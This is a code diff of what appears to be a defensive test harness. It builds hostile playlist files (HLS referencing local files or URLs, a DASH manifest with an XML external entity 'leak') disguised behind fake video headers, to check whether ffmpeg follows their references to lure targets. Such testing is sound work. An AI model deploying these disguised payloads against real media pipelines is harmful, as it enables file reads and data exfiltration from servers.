@@ -1,10 +1,9 @@
-import type { Attack } from '../attack.ts'
-import type { Canary } from '../canary.ts'
+import type { Attack, Lure } from '../attack.ts'
 import { head } from '../ebml.ts'
 import { boxOf, ftyp } from '../mp4.ts'
 
 /** Texts that an unfenced ffmpeg follows to where they point. */
-const playlists: Record<string, (canary: Canary) => string> = {
+const playlists: Record<string, (lure: Lure) => string> = {
   'HLS of a file': ({ file }) => hls(`file://${file}`),
   'HLS of a path': ({ file }) => hls(file),
   'HLS of a URL': ({ url }) => hls(`${url}/segment.ts`),
@@ -35,40 +34,55 @@ const hls = (uri: string, before = ''): string =>
 const dash = (...urls: string[]): string =>
   `<?xml version="1.0"?>
 <!DOCTYPE MPD [<!ENTITY leak SYSTEM "${urls[1]}">]>
-<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Location>${urls[0]}</Location><Period>
+<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static" mediaPresentationDuration="PT9S"><Location>${urls[0]}</Location><Period>
 <AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>${urls[0]}</BaseURL>&leak;</Representation></AdaptationSet>
 </Period></MPD>`
 
 const endings = ['mp4', 'avi', 'mkv', 'mov', 'webm']
 
-const bare: Attack[] = Object.entries(playlists).map(([what, make], index) => ({
-  what,
-  filename: `holiday.${endings[index % endings.length]}`,
-  make: (canary) => Buffer.from(make(canary)),
-  ends: ['NOT_MEDIA'],
-}))
+/** ffmpeg's name of what a text is, as far as it knows such texts, and what it has to be called for that. */
+const kinds: [what: RegExp, kind: string, name: string][] = [
+  [/HLS/, 'hls', 'list.m3u8'],
+  [/DASH/, 'dash', 'manifest.mpd'],
+  [/session/, 'sdp', 'session.sdp'],
+  [/concat script/, 'concat', 'list.ffconcat'],
+  [/subtitles/, 'ass', 'subtitles.ass'],
+]
 
-/** Beginnings that pass for a video of each kind. */
-const beginnings: Record<string, (text: Buffer) => Buffer> = {
-  mp4: (text) => Buffer.concat([ftyp, text]),
-  mov: (text) => boxOf('wide', text),
-  avi: (text) => Buffer.concat([Buffer.from('RIFF\0\0\0\0AVI ', 'latin1'), text]),
-  mkv: (text) => Buffer.concat([head(), text]),
-  webm: (text) => Buffer.concat([head('webm'), text]),
+const bare: Attack[] = Object.entries(playlists).map(([what, make], index) => {
+  const [, kind, nameOfKind] = kinds.find(([pattern]) => pattern.test(what)) ?? []
+  return {
+    what,
+    filename: `holiday.${endings[index % endings.length]}`,
+    make: (lure) => Buffer.from(make(lure)),
+    ends: ['NOT_MEDIA'],
+    reaches: kind === undefined ? undefined : [new RegExp(`Format ${kind} probed`)],
+    ...(nameOfKind !== undefined && { nameOfKind }),
+  }
+})
+
+/** Beginnings that pass for a video of each kind, and what shows that its demuxer goes on with the text. */
+const beginnings: Record<string, [disguise: (text: Buffer) => Buffer, reaches: RegExp]> = {
+  mp4: [(text) => Buffer.concat([ftyp, text]), /type:'M3U/],
+  mov: [(text) => boxOf('wide', text), /type:'wide' parent:'root' sz: [1-9]\d{3}/],
+  avi: [(text) => Buffer.concat([Buffer.from('RIFF\0\0\0\0AVI ', 'latin1'), text]), /^\[avi .*EXT has size/],
+  mkv: [(text) => Buffer.concat([head(), text]), /^\[matroska.*Unknown entry 0x234558/],
+  webm: [(text) => Buffer.concat([head('webm'), text]), /^\[matroska.*Unknown entry 0x234558/],
 }
 
-const everyPlaylist = (canary: Canary): Buffer =>
+const everyPlaylist = (lure: Lure): Buffer =>
   Buffer.from(
     Object.values(playlists)
-      .map((make) => make(canary))
+      .map((make) => make(lure))
       .join('\n'),
   )
 
-const disguised: Attack[] = Object.entries(beginnings).map(([ending, disguise]) => ({
+const disguised: Attack[] = Object.entries(beginnings).map(([ending, [disguise, reaches]]) => ({
   what: `all of these behind the beginning of a real ${ending}`,
   filename: `holiday.${ending}`,
-  make: (canary) => disguise(everyPlaylist(canary)),
+  make: (lure) => disguise(everyPlaylist(lure)),
   ends: ['CORRUPT', 'TRUNCATED'],
+  reaches: [reaches],
 }))
 
 export const playlistAttacks: Attack[] = [...bare, ...disguised]
